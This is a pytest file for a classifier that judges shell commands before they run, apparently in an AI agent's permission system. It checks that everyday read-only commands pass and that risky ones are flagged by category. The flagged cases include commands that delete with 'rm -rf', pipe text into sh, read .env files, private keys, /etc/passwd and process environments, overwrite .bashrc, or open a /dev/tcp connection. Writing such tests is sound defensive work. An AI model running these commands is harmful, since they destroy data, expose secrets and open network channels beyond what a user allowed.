"""Reading inside the workspace is safe; secrets, other places and options that act are not."""

from __future__ import annotations

import pytest

from tests.hands.permissions.verdicts import category, seen

EVERYDAY = [
    "ls",
    "ls -la src",
    "cat README.md | head -20",
    "grep -rn \"TODO\" src --include='*.py'",
    "grep -rn TODO .",
    "rg TODO",
    "rg -n \"def \\w+\" src -g '*.py' -A 3",
    "cut -d: -f1 names.txt | sort | uniq -c | sort -rn | head -5",
    "tr 'a-z' 'A-Z' < in.txt",
    "jq '.name' package.json",
    "jq -r '.items[] | .id' data.json",
    "diff -u a.txt b.txt",
    "wc -l < names.txt",
    "du -sh .",
    "df -h",
    "ps aux",
    "which python3",
    "type ls",
    "uname -a",
    "date +%Y-%m-%d",
    "seq 1 10",
    "basename src/app.py .py",
    'echo "a b" | wc -w',
    "printf '%d\\n' 5",
    "true",
    "pwd",
    "echo $HOME",
    'echo "$PATH"',
    "head -c 100 data.bin | xxd",
    "tail -n 50 app.log",
    "tail -f app.log",
    "sort -t, -k2 -n data.csv",
    "stat -c %s a.txt",
    "md5sum a.txt",
    "tree -L 2",
    "echo 'it'\"'\"'s'",
    'cat "file with spaces.txt"',
    'ls "$PWD"',
]

ASKS = {
    "deletes": [
        "echo hi | tee >(rm -rf src)",
        "ls||rm -rf src",
        "ls|rm -rf src",
    ],
    "opaque": [
        "cat <<EOF | sh\nrm -rf src\nEOF\n",
        "ls | sh",
        "less .env",
        "printf -v PATH x",
        "sort --compress-prog=./x f",
        "sort -S 1 --compress-program ./x f",
        "rg --pre ./x y",
        "rg --pre=./x y",
        "rg -z y",
        "less x",
        "man ls",
        "ls\t\u202ex",
    ],
    "dotenv": [
        "cat .env",
        "cat .env.local",
        "grep KEY .env",
        "head -1 < .env",
        "cat ./sub/.env",
        "cat .e*",
        "cat .en?",
        "cat id_rsa",
        "cat server.pem",
    ],
    "outside": [
        "ls ~",
        "cat ~/x",
        "cat /etc/passwd",
        "cat /etc/hosts",
        "cat ../other/x",
        "ls ..",
        "ls -la /root",
    ],
    "sensitive": [
        "grep -r x /etc",
        "grep -r x ~",
        "printenv",
        "printenv HOME",
        "cat /proc/self/environ",
        "cat /proc/1/environ",
        "cat /dev/sda",
    ],
    "privilege": [
        "echo x | tee .bashrc",
    ],
    "exfiltration": [
        "cat < /dev/tcp/1.2.3.4/80",
    ],
    "destructive": [
        "sort -o /etc/x f",
    ],
}


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_commands_do_not_ask(command: str) -> None:
    assert [finding.sentence for finding in seen(command).findings if finding.category != "changes"] == []


@pytest.mark.parametrize(
    ("expected", "command"), [(kind, each) for kind, several in ASKS.items() for each in several]
)
def test_others_ask_and_say_why(expected: str, command: str) -> None:
    assert category(command) == expected
